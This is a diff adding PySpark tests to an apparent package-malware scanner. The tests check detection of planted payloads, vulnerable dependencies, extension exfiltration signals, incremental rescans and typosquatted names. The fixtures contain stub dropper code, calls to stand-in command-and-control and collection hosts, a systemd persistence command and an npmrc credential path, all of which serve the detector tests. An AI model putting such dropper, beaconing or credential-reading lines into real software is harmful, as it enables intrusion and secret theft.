@@ -201,6 +201,91 @@ def test_campaigns_scan_contents_once(spark, tmp_path):
         assert plan.count("Relation [package#") + plan.count("Relation[package#") == 1
 
 
+def test_planted_payloads(spark):
+    """The ladder over hooks and files together; no hook, no code or no binary plants nothing."""
+    hook = {"install": "node a.js"}
+    p = spark.createDataFrame([(n, "1", hook if n != "free" else {"test": "x"}) for n in ("rat", "back", "stay", "free", "code", "none")], "package string, version string, scripts map<string,string>")
+    drop = "writeFile('x.exe', b); exec('x');"
+    f = [("rat", drop + "os.tmpdir(); get('https://c2.example')"), ("back", drop + "get('https://c2.example')"), ("stay", drop + "systemctl enable x"), ("free", drop + "get('https://c2.example')"), ("code", "plain"), ("none", None)]
+    got = {r.package: (r.payload, r.platforms) for r in C.planted_payloads(p, spark.createDataFrame([(n, "a.js", c) for n, c in f], "package string, path string, content string")).collect()}
+    assert got == {"rat": ("cross_platform_rat", "linux,macos,windows"), "back": ("network_backdoor", ""), "stay": ("platform_persistence", "linux")}
+
+
+def test_bad_host_tiers(spark):
+    rows = [
+        ("one", 1, "mcp", None, None), ("one", 2, "vllm", "==", "0.1"), ("one", 3, "fastapi", None, None), ("pinned", 1, "fastapi", None, None), ("pinned", 2, "starlette", "==", "1.0.1"), ("loose", 1, "starlette", None, None), ("loose", 2, "fastapi", "==", "0.115.9"),
+        ("safe", 1, "fastapi", "==", "0.116.0"), ("safe", 2, "langserve", ">=", "1"), ("range", 1, "vllm", "~=", "1"), ("null", 1, None, None, None),
+    ]
+    got = {r.project: (r.package, r.tier) for r in C.bad_host_tiers(spark.createDataFrame(rows, "project string, line int, name string, operator string, version string")).collect()}
+    assert got == {"one": ("vllm", 1), "loose": ("fastapi", 1), "safe": ("langserve", 2)}
+
+
+def test_extension_and_signal_roll_up(spark):
+    f = [(1, "get('https://api.github.com/repos/a/b/git/commits/" + "a1" * 20 + "')"), (2, "// setup\nfetch('https://collect.example/x')"), (2, "~/.npmrc"), (3, "// setup\nfetch('https://github.com/x')"), (4, None), (5, "setup")]
+    s = C.extension_files(spark.createDataFrame(f, "extension int, content string"))
+    assert sorted(map(tuple, s.collect())) == [(1, "orphan_commit"), (2, "exfiltration"), (2, "orphan_commit")]
+    more = spark.createDataFrame([(2, "burst"), (6, "activation"), (7, "unknown"), (None, "burst")], "extension int, signal string")
+    assert {r.extension: (r.signals, r.severity) for r in C.signal_campaign(s.unionByName(more)).collect()} == {
+        1: ("orphan_commit", "critical"), 2: ("burst,exfiltration,orphan_commit", "critical"), 6: ("activation", "high"), None: ("burst", "high"),
+    }
+
+
+def test_rescans_read_what_changed(spark, tmp_path):
+    """Two snapshots give what a whole scan of the second gives; only the changed package was read; a snapshot again changes nothing."""
+    from tarnwatch.streaming import rescan as RS
+
+    schema = "package string, n long"
+    scan = lambda f: f.groupBy("package").agg(F.sum(F.length("content")).alias("n"))
+    one = spark.createDataFrame([("a", "x", "12"), ("a", "y", None), ("b", "x", "123"), ("gone", "x", "1"), (None, "x", "1")], "package string, path string, content string")
+    two = spark.createDataFrame([("a", "y", None), ("a", "x", "12"), ("b", "x", "1234"), ("new", "x", "")], "package string, path string, content string")
+    at = str(tmp_path / "r")
+    assert RS.latest(spark, at, "findings", schema).count() == 0
+    for k, snapshot in enumerate((one, two, two)):
+        RS.take(snapshot, min(k, 1), at, scan, schema)
+    got = sorted(map(tuple, RS.latest(spark, at, "findings", f"{schema}, scanned_in long").collect()))
+    assert got == [("a", 2, 0), ("b", 4, 1), ("new", 0, 1)]
+    assert {r.snapshot: (r.files, r.packages) for n in (0, 1) for r in spark.read.parquet(f"{at}/read/snapshot={n}").collect()} == {0: (4, 3), 1: (2, 2)}
+
+
+def test_rescans_of_a_stream(spark, tmp_path):
+    from tarnwatch.streaming import rescan as RS
+
+    schema, scan = "package string, n long", lambda f: f.groupBy("package").agg(F.count("*").alias("n"))
+    for k, rows in enumerate(([("a", "x", "1"), ("b", "x", "1")], [("a", "x", "1"), ("b", "x", "2")])):
+        spark.createDataFrame(rows, "package string, path string, content string").coalesce(1).write.mode("append").parquet(str(tmp_path / "in"))
+        stream = spark.readStream.schema("package string, path string, content string").option("maxFilesPerTrigger", 1).parquet(str(tmp_path / "in"))
+        RS.rescans(stream, str(tmp_path / "r"), scan, schema)
+        assert RS.committed(spark, str(tmp_path / "r")) == k
+    assert sorted(map(tuple, RS.latest(spark, str(tmp_path / "r"), "findings", f"{schema}, scanned_in long").collect())) == [("a", 1, 0), ("b", 1, 1)]
+
+
+def test_lookalike_dependencies(spark):
+    from tarnwatch.operators import similarity as M
+
+    deps = ["lodahs", "reduc", "redux", "rea", "pgg", "expres", "mocha1", "far-away", None, "moch"]
+    got = {r.dependency: (r.target, r.distance) for r in M.lookalike_dependencies(spark.createDataFrame([("p", d) for d in deps], "package string, dependency string")).collect()}
+    want = {}
+    for d in filter(None, deps):
+        for t in M.TOP_NAMES if len(d) >= 4 else []:
+            row = list(range(len(t) + 1))
+            for i, a in enumerate(d, 1):
+                row = _edit_row(row, a, t, i)
+            if 1 <= row[-1] <= 2:
+                want[d] = (t, row[-1])
+                break
+    assert got == want and got["reduc"][0] in ("redis", "redux")
+    found = M.lockfile_lookalikes(spark.createDataFrame([("l", n) for n in ("Lodash", "axio", "webpakk", "vu3", None)], "path string, name string"))
+    assert sorted((r.name, r.spelling) for r in found.collect()) == [("Lodash", "lodash"), ("axio", "axios"), ("vu3", "vue")]
+
+
+def _edit_row(before, a, t, i):
+    """The next row of the table of edit distances."""
+    row = [i]
+    for j, b in enumerate(t, 1):
+        row.append(min(before[j] + 1, row[j - 1] + 1, before[j - 1] + (a != b)))
+    return row
+
+
 def test_severity_ladders(spark):
     df = spark.createDataFrame([("TIER1-BINARY-EMBED", 90), ("TIER1-BINARY-EMBED", 89), ("TIER1-BINARY-EMBED", 0), ("TIER1-BINARY-EMBED", -1), ("none", 50), (None, 50), ("D14-BUILD-CONFIG-ABUSE", None)], "detector string, score int")
     assert [r.severity for r in P.with_severity(df, P.ladders(spark)).collect()] == ["critical", "high", "medium", None, None, None, None]
